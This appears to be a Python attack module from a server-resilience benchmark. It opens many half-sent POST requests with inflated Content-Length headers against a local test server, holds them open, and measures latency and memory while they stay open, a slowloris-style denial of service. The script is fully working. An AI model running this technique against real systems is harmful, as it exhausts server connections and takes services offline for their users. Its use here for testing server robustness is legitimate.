"""Requests that are half sent and never finished."""

import argparse
import asyncio
import socket
import time
from typing import Any

from bench.attacks.victim import READY, Target, watching

SETTINGS: dict[str, str] = {}
HALF = (
    b"POST /api/replay HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
)


def arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--bodies", type=int, default=1500)
    parser.add_argument("--lasts", type=float, default=60.0, help="seconds after which those that are open are counted")


def half_sent(target: Target, source: str) -> socket.socket:
    plain = socket.socket()
    plain.bind((source, 0))
    plain.settimeout(READY)
    host, port = target.address.removeprefix("http://").strip("/").split(":")
    plain.connect((host, int(port)))
    plain.sendall(HALF)
    plain.setblocking(False)
    return plain


def is_open(plain: socket.socket) -> bool:
    """Whether the server has neither answered nor closed the connection."""
    try:
        return not isinstance(plain.recv(1, socket.MSG_PEEK), bytes)
    except BlockingIOError:
        return True
    except OSError:
        return False


async def attack(target: Target, wanted: argparse.Namespace) -> dict[str, Any]:
    async with watching(target, "api/games") as watch:
        await asyncio.sleep(1.0)
        before = watch.spread()
        watch.begin()
        began = time.monotonic()
        opened = [await asyncio.to_thread(half_sent, target, f"127.0.0.{2 + n // 200}") for n in range(wanted.bodies)]
        await asyncio.sleep(wanted.lasts)
        left = sum(is_open(each) for each in opened)
        for each in opened:
            each.close()
        found = {"get_ms_before": before, "get_ms_during": watch.spread(), "memory_mb": round(watch.most)}
    return {"bodies": len(opened), "still_open": left, "after_s": round(time.monotonic() - began, 1)} | found
